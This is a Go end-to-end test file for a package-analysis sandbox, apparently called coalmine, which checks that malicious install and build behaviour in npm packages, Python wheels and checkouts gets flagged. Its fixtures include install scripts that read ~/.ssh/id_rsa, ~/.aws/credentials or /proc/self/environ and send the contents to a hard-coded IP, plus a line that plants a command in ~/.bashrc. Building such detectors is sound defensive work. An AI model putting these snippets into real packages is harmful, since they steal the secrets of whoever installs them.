//go:build linux && e2e

package packages

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/coalmine-dev/coalmine/cmd/internal/probe/probetest"

	"github.com/coalmine-dev/coalmine/analyze"
	"github.com/coalmine-dev/coalmine/analyze/finding"
	"github.com/coalmine-dev/coalmine/sandbox/install"
	"github.com/coalmine-dev/coalmine/sandbox/sandboxtest"
	"github.com/coalmine-dev/coalmine/sandbox/sandboxtest/scale"
	"github.com/coalmine-dev/coalmine/sandbox/session"
)

// packaged probes a package with a cache of the test's own. The tests of this package change
// their process's environment and so run one after another: they need no slot, and would
// wait for one before each step while the tests of other packages wait for many.
func packaged(t *testing.T, o probetest.Request, args ...string) *analyze.Result {
	t.Helper()
	o.Sandbox, o.Seed, o.Calls, o.Out, o.Cache, o.Args = "local", 1, 1, t.TempDir(), t.TempDir(), args
	// A compiler on a busy machine takes minutes.
	o.Timeout, o.ShrinkTime, o.FailOn = 6*time.Minute, time.Nanosecond, finding.High
	got, err := probetest.Run(t.Context(), o)
	if err != nil {
		t.Fatal(err)
	}
	left, err := filepath.Glob(filepath.Join(o.Cache, "tmp-*"))
	if err != nil || len(left) > 0 {
		t.Errorf("left in the cache: %q, %v", left, err)
	}
	return got.Result
}

func npmSpec(name string) *install.Spec { return &install.Spec{Kind: install.KindNPM, Name: name} }

func served(t *testing.T, name string) string {
	t.Helper()
	data, err := os.ReadFile(filepath.Join(sandboxtest.ModuleRoot(t), "testdata/servers", name))
	if err != nil {
		t.Fatal(err)
	}
	return string(data)
}

// scripts are what packages do when they are installed. Each server starts only
// if a file is there that the script makes: it is the built tree that is run.
var buildScripts = []struct {
	name, script string
	// want are the rules with their severities, state the build's.
	want, state string
}{
	{"honest", `1;`, "", session.BuildDone},
	{"downloads", `fetch("https://downloads.example/prebuilt.node").then((r) => r.text(), () => "");`, "CM205 low", session.BuildDone},
	{"steals", `const key = fs.readFileSync(process.env.HOME + "/.ssh/id_rsa", "utf8");
fetch("http://93.184.216.34/c", { method: "POST", body: key }).then(() => 0, () => 0);`, "CM103 critical, CM101 high, CM108 high, CM205 low", session.BuildDone},
	{"settles", `fs.appendFileSync(process.env.HOME + "/.bashrc", "curl x\n");`, "CM212 high", session.BuildDone},
	{"fails", `process.exitCode = 3;`, "", session.BuildFailed},
}

func TestAPackageIsBuiltAmongDecoys(t *testing.T) {
	probetest.Need(t, "local")
	sandboxtest.Need(t, "node", "npm")
	r := sandboxtest.NewRegistry(t)
	server := `import { existsSync } from "node:fs";
if (!existsSync(new URL("./made.txt", import.meta.url))) process.exit(9);
` + served(t, "honest/honest.mjs")
	for _, c := range buildScripts {
		r.Publish(t, `{"name":"dep-`+c.name+`","version":"1.0.0","scripts":{"postinstall":"node post.js"}}`, map[string]string{
			"post.js": `const fs = require("fs"); fs.writeFileSync("../@notes/` + c.name + `/made.txt", process.env.npm_lifecycle_event);` + "\n" + c.script,
		})
		r.Publish(t, `{"name":"@notes/`+c.name+`","version":"2.0.0","bin":"server.mjs","dependencies":{"dep-`+c.name+`":"^1.0.0"}}`, map[string]string{
			"server.mjs": "#!/usr/bin/env node\n" + server,
		})
	}
	for _, c := range buildScripts {
		if (c.name == "downloads" || c.name == "settles") && !scale.Deep() {
			continue // what a build does is told in the same way as of the one that steals
		}
		t.Run(c.name, func(t *testing.T) {
			res := packaged(t, probetest.OfPackage(npmSpec("@notes/"+c.name)))
			var got []string
			for _, f := range res.Findings {
				got = append(got, f.Rule+" "+string(f.Severity))
				if f.Phase != finding.PhaseBuild {
					t.Errorf("%s in phase %s: %s", f.Rule, f.Phase, f.Message)
				}
			}
			if strings.Join(slices.Compact(got), ", ") != c.want {
				t.Errorf("found %q, want %q", got, c.want)
			}
			p := res.Run.Package
			if p.Version != "2.0.0" || !strings.HasPrefix(p.Integrity, "sha512-") || !strings.HasPrefix(p.Digest, "sha256:") || p.Packages != 2 || p.Build.State != c.state || len(p.Build.Steps) != 1 {
				t.Errorf("%+v", p)
			}
			verdict := analyze.Clean
			switch {
			case strings.Contains(c.want, "high"):
				verdict = analyze.Findings
			case c.state == session.BuildFailed:
				verdict = analyze.Inconclusive
			}
			if res.Verdict != verdict {
				t.Errorf("verdict %s, want %s: %q", res.Verdict, verdict, res.Inconclusive)
			}
			if len(res.Coverage.Tools) != 1 || res.Coverage.Tools[0].OK == 0 {
				t.Errorf("the server did not run from what was built: %+v %s", res.Coverage.Tools, res.Server.Stderr)
			}
			if !slices.Contains(res.Coverage.Phases, finding.PhaseBuild) || res.Audit == nil {
				t.Errorf("phases %v, audit %v", res.Coverage.Phases, res.Audit)
			}
		})
	}
}

// A scope's registry has both the manifest and the archive of its packages, and the user's own
// registry has their dependencies.
func TestAScopesRegistry(t *testing.T) {
	probetest.Need(t, "local")
	sandboxtest.Need(t, "node", "npm")
	main, scoped := sandboxtest.NewRegistry(t), sandboxtest.ServeRegistry(t)
	t.Setenv("npm_config_@notes:registry", scoped.URL+"/")
	main.Publish(t, `{"name":"dep","version":"1.0.0"}`, nil)
	scoped.Publish(t, `{"name":"@notes/scoped","version":"2.0.0","bin":"server.mjs","dependencies":{"dep":"1.0.0"}}`, map[string]string{"server.mjs": "#!/usr/bin/env node\n" + served(t, "honest/honest.mjs")})
	if res := packaged(t, probetest.OfPackage(npmSpec("@notes/scoped"))); res.Verdict != analyze.Clean || res.Run.Package.Packages != 2 {
		t.Errorf("%s %q, %+v", res.Verdict, res.Inconclusive, res.Run.Package)
	}
	if asked := main.Asked(); slices.ContainsFunc(asked, func(path string) bool { return strings.HasPrefix(path, "@notes") }) {
		t.Errorf("the user's own registry was asked for %q", asked)
	}
}

func TestABuildThatIsLeftOutIsSaid(t *testing.T) {
	probetest.Need(t, "local")
	sandboxtest.Need(t, "node", "npm")
	r := sandboxtest.NewRegistry(t)
	r.Publish(t, `{"name":"notes","version":"1.0.0","bin":{"other":"x.mjs","notes":"server.mjs"},"scripts":{"install":"exit 1"}}`, map[string]string{
		"server.mjs": "#!/usr/bin/env node\n" + served(t, "honest/honest.mjs"), "x.mjs": "",
	})
	res := packaged(t, probetest.OfPackage(npmSpec("notes"), probetest.WithoutBuild))
	if res.Verdict != analyze.Inconclusive || res.Run.Package.Build.State != session.BuildSkipped || !slices.Contains(res.Coverage.Unreached, finding.PhaseBuild) ||
		!strings.Contains(strings.Join(res.Inconclusive, " "), "--no-build") {
		t.Errorf("%s %q %+v", res.Verdict, res.Inconclusive, res.Run.Package)
	}
}

func TestWheelsAreRunAsTheyAre(t *testing.T) {
	probetest.Need(t, "local")
	sandboxtest.Need(t, "python3")
	wheels := t.TempDir()
	t.Setenv("PIP_FIND_LINKS", wheels)
	t.Setenv("PIP_NO_INDEX", "1")
	for name, first := range map[string]string{
		"notes-honest": "",
		"notes-phones": "import urllib.request\ntry:\n    urllib.request.urlopen('http://93.184.216.34/', open('/proc/self/environ', 'rb').read(), timeout=5)\nexcept OSError:\n    pass\n",
	} {
		under := strings.ReplaceAll(name, "-", "_")
		sandboxtest.Wheel(t, wheels, name, "1.2.0", []string{"notes-base>=1"}, name+" = "+under+".server:main", map[string]string{
			under + "/__init__.py": first + "import notes_base\n",
			under + "/server.py":   served(t, "honest/honest.py"),
		})
	}
	sandboxtest.Wheel(t, wheels, "notes-base", "1.0", nil, "", map[string]string{"notes_base/__init__.py": ""})
	for name, want := range map[string]string{"notes-honest": "", "notes-phones": "CM103"} {
		t.Run(name, func(t *testing.T) {
			res := packaged(t, probetest.OfPackage(&install.Spec{Kind: install.KindPyPI, Name: name}))
			var got []string
			for _, f := range res.Findings {
				got = append(got, f.Rule)
			}
			if want == "" && (len(got) > 0 || res.Verdict != analyze.Clean) || want != "" && !slices.Contains(got, want) {
				t.Errorf("%s: found %q, %q, %s", res.Verdict, got, res.Inconclusive, res.Server.Stderr)
			}
			if p := res.Run.Package; p.Version != "1.2.0" || !strings.HasPrefix(p.Integrity, "sha256:") || p.Packages != 2 || p.Build.State != session.BuildNone {
				t.Errorf("%+v", p)
			}
		})
	}
}

// put writes files below a directory.
func put(t *testing.T, dir string, files map[string]string) {
	t.Helper()
	for name, text := range files {
		name = filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(name), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(name, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

// A checkout's own code is run, built by its own scripts, and nothing is left in it.
func TestACheckoutIsInstalledAndRun(t *testing.T) {
	probetest.Need(t, "local")
	sandboxtest.Need(t, "node", "npm", "python3")
	r := sandboxtest.NewRegistry(t)
	r.Publish(t, `{"name":"maker","version":"1.0.0","bin":"make.js"}`, map[string]string{"make.js": "#!/usr/bin/env node\nconst fs=require('fs'); fs.mkdirSync('dist'); fs.copyFileSync('server.mjs','dist/server.mjs'); fs.readFileSync(process.env.HOME+'/.aws/credentials');"})
	node := t.TempDir()
	put(t, node, map[string]string{
		"package.json": `{"name":"notes","version":"3.0.0","bin":"dist/server.mjs","devDependencies":{"maker":"1.0.0"},"scripts":{"build":"maker"}}`,
		"server.mjs":   served(t, "honest/honest.mjs"), ".npmrc": "registry=http://127.0.0.1:1/\n//127.0.0.1:1/:_authToken=${HOME}\n", ".env": "KEY=of-the-user",
	})
	wheels, python := t.TempDir(), t.TempDir()
	t.Setenv("PIP_FIND_LINKS", wheels)
	t.Setenv("PIP_NO_INDEX", "1")
	sandboxtest.Wheel(t, wheels, "notes-base", "1.0", nil, "", map[string]string{"notes_base/__init__.py": ""})
	put(t, python, map[string]string{
		"pyproject.toml":           "[project]\nname = 'py-notes'\nversion = '0.3'\ndependencies = ['notes-base >=1']\n[project.scripts]\npy-notes = 'py_notes.server:main'\n",
		"src/py_notes/__init__.py": "import notes_base\n", "src/py_notes/server.py": served(t, "honest/honest.py"),
	})
	for dir, want := range map[string]string{node: "CM101 high", python: ""} {
		before := listing(t, dir)
		res := packaged(t, probetest.OfPackage(&install.Spec{Kind: install.KindDirectory, Name: dir}))
		var got []string
		for _, f := range res.Findings {
			got = append(got, f.Rule+" "+string(f.Severity))
		}
		if strings.Join(slices.Compact(got), ", ") != want || len(res.Coverage.Tools) != 1 || res.Coverage.Tools[0].OK == 0 {
			t.Errorf("found %q, want %q; %+v %q %s", got, want, res.Coverage.Tools, res.Inconclusive, res.Server.Stderr)
		}
		if p := res.Run.Package; p.Kind != install.KindDirectory || p.Version == "" || p.Digest == "" || p.Packages != 1 {
			t.Errorf("%+v", p)
		}
		if after := listing(t, dir); !slices.Equal(before, after) {
			t.Errorf("the checkout was changed: %q, %q", before, after)
		}
	}
}

func listing(t *testing.T, dir string) []string {
	t.Helper()
	var out []string
	if err := filepath.WalkDir(dir, func(p string, _ os.DirEntry, err error) error { out = append(out, p); return err }); err != nil {
		t.Fatal(err)
	}
	return out
}
